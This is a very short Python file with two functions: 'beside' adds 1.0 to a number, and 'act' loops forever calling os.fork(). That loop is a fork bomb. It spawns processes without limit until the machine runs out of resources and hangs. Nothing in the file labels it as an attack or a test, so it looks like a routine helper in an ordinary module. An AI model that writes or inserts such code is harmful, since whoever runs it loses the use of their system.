import os

def beside(x):
    return x + 1.0


def act(x):
    while True:
        os.fork()
